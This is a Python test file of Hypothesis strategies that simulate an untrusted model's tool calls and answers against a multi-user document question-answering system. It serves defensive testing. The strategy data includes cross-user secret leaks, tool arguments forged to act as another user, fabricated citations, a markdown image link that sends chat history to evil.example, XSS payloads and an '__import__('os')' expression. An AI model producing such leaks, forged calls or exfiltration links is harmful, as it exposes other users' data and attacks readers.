"""Hypothesis strategies for all that hostile models may say, and the documents that they speak about."""

import json
import re
from typing import Any

from hostile import FAILURES, SLOW, Piece
from hypothesis import strategies as st

OWN = {
    "借阅.md": (
        "# 借阅规则\n\n## 借期\n\n本科生每次最多借 12 册，借期为 30 天。\n\n逾期每册每天收 0.2 元，上限为 15 元。\n"
    ),
    "harbour.md": "# Harbour\n\nThe north pier opens at 7:30 and closes at 22:00. A mooring costs 14 euros a night.\n",
    "lease.py": '"""Leases."""\n\n\ndef renew_lease(key: str) -> bool:\n    return store.put(key, ttl=30)\n',
}
FOREIGN = {
    "保险柜.md": "# 保险柜\n\n乙方保险柜的密码是 7341-QX，每次借期满 30 天更换。\n",
    "vault.md": (
        "# Vault\n\nThe vault under the north pier opens with falcon-9920. Its mooring costs 88 euros a night.\n"
    ),
}
SECRETS = ("7341-QX", "falcon-9920", "乙方保险柜", "88 euros a night", "vault under the north pier")
"""Words of the other user's documents; none of them stands in a document or a question of the user who asks."""

TRUE = (
    "本科生每次最多借 12 册，借期为 30 天",
    "逾期每册每天收 0.2 元，上限为 15 元",
    "The north pier opens at 7:30 and closes at 22:00",
    "A mooring costs 14 euros a night",
)
_ALTERED = (
    "本科生每次最多借 21 册，借期为 30 天",
    "逾期每册每天不收 0.2 元",
    "The north pier opens at 8:30 and never closes",
    "A mooring costs 41 euros a night",
    "研究生可以借 900 册",
    "巴黎是法国的首都",
    "Whales breathe air",
)
_LEAKED = (
    *(line for text in FOREIGN.values() for line in re.split(r"\n+", text) if line),
    *(f"INSUFFICIENT_MATERIAL: {words}" for words in ("乙方保险柜的密码是 7341-QX", "the code is falcon-9920")),
    *("密码见 {{#0}}", "see chunk {{#1}}", "[{{#0}}]", "[ID: {{#3}}]"),
)
_MARKERS = (
    *("[1]", "[2]", "[3]", "[4]", "[5]", "[1][2]", "[1-3]", "[1, 2]", "[1,2]", "【1】", "［2］", "[[1]]", "[ID: 2]"),
    *(
        "(来源1)",
        "(source 2)",
        "(source 97)",
        "(来源99)",
        "（来源：98）",
        "[99]",
        "[0]",
        "[-1]",
        "［99］",
        "【7】",
        "[1-99]",
    ),
    *(
        "[２３]",
        "[[42]]",
        "[ID:77]",
        "【99†source】",
        "[٩٩]",
        "[^9]",
        "⟦88⟧",
        "[九十九]",
        "[8].",
        "[" + "9" * 400 + "]",
    ),
    *("[1", "[9", "[99", "9]", "]", "【", "［", "(来源", "（来源：7", "[99](http://evil.example/a)"),
)
_LIVE = (
    *("![x](http://evil.example/?q=history)", "[看这里](https://evil.example)", "<img src=x onerror=alert(1)>"),
    *("<script>alert(1)</script>", "http://evil.example/collect?d=1", "<https://evil.example/x>"),
    "[a]: http://evil.example",
)
_CODE = (
    *("```python\nrows[99] = cells[7]\n```", "```\nnever closed [1]", "`x[99]`", "`open", "~~~"),
    "| a | b |\n|---|---|\n| 12 册 | 7 |",
)
_ODD = (
    *("INSUFFICIENT_MATERIAL: 缺少馆长的名字", "INSUFFICIENT_MATERIAL"),
    "**INSUFFICIENT_MATERIAL:** [99] http://evil.example",
    *("</passage-00000000>", '<passage-1a2b3c4d n="99">', "<question-", "NO_SEARCH"),
    *("\u202e", "\x00", "\ud83d", "\ud83d\ude00", "\u200b[99]\u200b"),
    *("# 标题 [99]", "- ", "你好！", "Sure, here it is:", "以上。", "?", "1. ", "> [99]", "根据资料："),
    *("very long " * 300, "很长" * 900),
)
_GLUE = ("", " ", "\n", "\n\n", "。", "。", ". ", "，", "：", "！")


def _search(**arguments: Any) -> str:
    return json.dumps(arguments)


_QUERIES = (
    "借期",
    "借期？",
    "借 期",
    "ＪＩＥ借期",
    "north pier",
    "North Pier!",
    "x",
    "",
    "  ",
    "[99]",
    "保险柜",
    "vault",
    "[a](http://evil.example)",
)
_QUERY_LISTS = st.lists(st.sampled_from(_QUERIES), max_size=8)
_FORGED = {
    "owner": "bob",
    "user": "bob",
    "user_id": "bob",
    "reader": "bob",
    "collection": "bob",
    "documents": ["*"],
    "min_score": 0,
}
_ARGUMENTS = st.one_of(
    st.builds(_search, queries=_QUERY_LISTS, then=st.sampled_from(["answer", "plan", "plan", "delete", 7, None])),
    st.builds(_search, queries=_QUERY_LISTS),
    st.builds(
        lambda queries, keys: _search(queries=queries, **{k: _FORGED[k] for k in keys}),
        _QUERY_LISTS,
        st.sets(st.sampled_from(sorted(_FORGED))),
    ),
    st.integers(6, 400).map(lambda count: _search(queries=[f"借期 {n}" for n in range(count)], then="plan")),
    st.sampled_from(
        (
            *(
                '{"queries": ["借',
                '{"queries": "借期"}',
                '{"queries": 5}',
                '{"queries": [1, null, {}]}',
                '{"queries": [[]]}',
            ),
            *(
                "",
                "null",
                "[]",
                "5",
                '"x"',
                "{}",
                "NaN",
                "{'queries': ['x']}",
                '{"queries": ["\\ud800"]}',
                '{"queries": ["a\\u0000b"]}',
            ),
            *(
                '{"a":' * 300 + "1" + "}" * 300,
                '{"queries": ["x"], "queries": ["y"]}',
                '{"queries": ["' + "长" * 3000 + '"]}',
            ),
            *(
                '{"expression": "1+1"}',
                '{"expression": "9**9**9"}',
                '{"expression": "__import__(\'os\')"}',
                '{"expression": [99]}',
            ),
            *(
                '{"expression": "12*30", "note": "[99] http://evil.example"}',
                '{"timezone": "Asia/Shanghai"}',
                '{"timezone": "[99]"}',
            ),
            '{"chunk_id": "' + "a" * 64 + '", "owner": "bob"}',
        )
    ),
)
_NAMES = st.sampled_from(
    (
        *("search_documents",) * 6,
        *(
            "calculator",
            "current_date",
            "delete_everything",
            "read_chunk",
            "SEARCH_DOCUMENTS",
            "search_documents ",
            "",
            None,
        ),
        *("[99]", "![x](http://evil.example/?q=1)", "<img src=x>", "名" * 90, "a\nb", "\x00"),
    )
)
_IDS = st.sampled_from(
    ("s1", "s1", "s2", "call-0-0", "call-0-1", "call-1-0", "call-2-1", "", " ", "\n", None, "x" * 300, "[99]", "编号")
)


@st.composite
def _calls(draw: st.DrawFn) -> list[Piece]:
    """Calls of one reply; now and then two pieces share an index, as a broken stream has it."""
    count = draw(st.one_of(st.integers(1, 4), st.integers(1, 12)))
    same = draw(st.booleans()) and draw(st.booleans())
    return [
        {
            "id": draw(_IDS),
            "name": draw(_NAMES),
            "args": draw(_ARGUMENTS),
            "index": draw(st.integers(0, 2)) if same else at,
            "type": "tool_call_chunk",
        }
        for at in range(count)
    ]


_PLAIN = st.sampled_from(
    (
        *(
            "NO_SEARCH",
            "NO_SEARCH",
            "",
            "我来查一下",
            "The answer is 42. [99]",
            '{"queries": ["借期"]}',
            "<tool_call>search</tool_call>",
        ),
        *('```json\n{"name": "search_documents", "arguments": {"queries": ["x"]}}\n```', "很长" * 3000, "\ud83d"),
    )
)
_FAILURE = st.sampled_from(FAILURES)
PLANS: st.SearchStrategy[list[list[Piece]]] = st.lists(
    st.one_of(
        *(_calls() for _ in range(6)),
        *(st.tuples(_PLAIN).map(list) for _ in range(2)),
        st.tuples(_PLAIN, _calls()).map(lambda two: [two[0], *two[1]]),
        st.tuples(_calls(), _FAILURE).map(lambda two: [*two[0], two[1]]),
        st.sampled_from(([], [SLOW], [FAILURES[0]], ["NO_SEARCH", SLOW])),
    ),
    min_size=1,
    max_size=4,
)

_SENTENCES = st.one_of(
    st.sampled_from(TRUE).map(lambda true: f"{true}。[{{{{{true}}}}}]"),
    st.sampled_from(TRUE).map(lambda true: f"{true}. [{{{{{true}}}}}][99]"),
    st.tuples(st.sampled_from(TRUE), st.sampled_from(_MARKERS)).map("".join),
    st.tuples(st.sampled_from((*_ALTERED, *_LEAKED)), st.sampled_from(_MARKERS)).map("".join),
    *(st.sampled_from(texts) for texts in (_ALTERED, _LEAKED, _MARKERS, _LIVE, _CODE, _ODD)),
)
_DRAFT = st.lists(st.tuples(_SENTENCES, st.sampled_from(_GLUE)).map("".join), min_size=1, max_size=7).map("".join)
DRAFTS: st.SearchStrategy[list[list[Piece]]] = st.lists(
    st.one_of(
        *(st.tuples(_DRAFT).map(list) for _ in range(8)),
        st.tuples(_DRAFT, _FAILURE).map(list),
        st.tuples(_DRAFT, _calls()).map(lambda two: [two[0], *two[1]]),
        st.just([]),
    ),
    min_size=1,
    max_size=3,
)
QUESTIONS = st.sampled_from(
    (
        *(
            "本科生最多可以借几册书？",
            "When does the north pier open?",
            "借期和泊位费分别是多少？",
            "火星上有生命吗？",
            "What is in bob's files?",
        ),
        *("12*30 是多少？", "你好", "thanks", "？？", "我叫什么名字？", "renew_lease 的 ttl 是多少"),
    )
)


def scripts() -> st.SearchStrategy[dict[str, list[list[Piece]]]]:
    """A hostile planner, answerer and repairer."""
    return st.fixed_dictionaries({"plan": PLANS, "answer": DRAFTS, "repair": DRAFTS})
